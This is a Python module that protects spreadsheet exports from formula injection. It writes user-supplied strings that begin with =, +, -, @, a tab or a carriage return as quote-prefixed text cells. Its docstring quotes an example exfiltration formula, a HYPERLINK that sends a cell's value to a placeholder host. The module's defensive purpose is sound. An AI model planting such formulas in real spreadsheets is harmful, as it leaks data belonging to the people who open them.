"""Spreadsheet cells that hold what a user typed as text, never as a formula.

openpyxl stores any string that starts with ``=`` as a live formula, so a mailbox title of
``=HYPERLINK("http://x/?"&B2,"点击")`` would run in the clerk's Excel. Every export writes its
rows through :func:`safe_row`: a string that a spreadsheet could read as a formula (starting
with = + - @, a tab or a carriage return) becomes a text cell marked with Excel's quote prefix,
so it shows exactly as typed and stays text when the cell is edited.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text_cell(sheet, value: str):
    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell


def safe_value(sheet, value: Any):
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return text_cell(sheet, value)
    return value


def safe_row(sheet, values: Iterable[Any]) -> list[Any]:
    """The row to ``sheet.append``: numbers and dates as they are, risky strings as text cells."""
    return [safe_value(sheet, value) for value in values]
